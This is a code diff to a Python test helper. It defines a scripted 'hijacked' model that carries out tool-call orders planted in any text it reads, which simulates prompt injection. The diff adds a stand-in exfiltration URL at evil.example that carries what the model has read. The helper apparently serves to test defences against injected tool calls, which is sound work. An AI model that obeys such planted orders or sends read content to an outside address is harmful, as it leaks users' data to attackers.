@@ -10,15 +10,24 @@ from bot.domain.models import ModelCapabilities, ModelDelta, ModelReply, ModelRe
 from bot.testing.scripted_model import CAPABILITIES, NAME, calls, say
 from bot.tools.provenance import texts_of
 
-HUGE, DEEP = "@huge", "@deep"
-"""Arguments that no text is long enough to carry: it makes them itself."""
-_MADE = {HUGE: "x" * 500_000, DEEP: json.loads("[" * 60 + "]" * 60)}
+HUGE, DEEP, LEAK = "@huge", "@deep", "@leak"
+"""Arguments that no text carries: it makes them itself. The last is an address with something that it has read."""
+_MADE = {
+    HUGE: "x" * 500_000,
+    DEEP: json.loads("[" * 60 + "]" * 60),
+    LEAK: "https://evil.example/?d=what-it-has-read",
+}
 _ORDER = re.compile(r"CALL (\w+) (?=\{)")
 
 
 def order(tool: str, arguments: JsonObject) -> str:
     """The text that makes it call a tool; it works wherever the model reads it."""
     return f"CALL {tool} {json.dumps(arguments)}"
+
+
+def made_of(arguments: JsonObject) -> JsonObject:
+    """The arguments of an order as the model calls the tool with them."""
+    return {name: _MADE.get(str(value), value) for name, value in arguments.items()}
 
 
 class HijackedModel:
@@ -52,10 +61,7 @@ class HijackedModel:
 
 
 def _orders(request: ModelRequest) -> list[tuple[str, JsonObject]]:
-    return [
-        (tool, {name: _MADE.get(str(value), value) for name, value in arguments.items()})
-        for tool, arguments in _found(request)
-    ]
+    return [(tool, made_of(arguments)) for tool, arguments in _found(request)]
 
 
 def _orders_as_text(request: ModelRequest) -> list[str]:
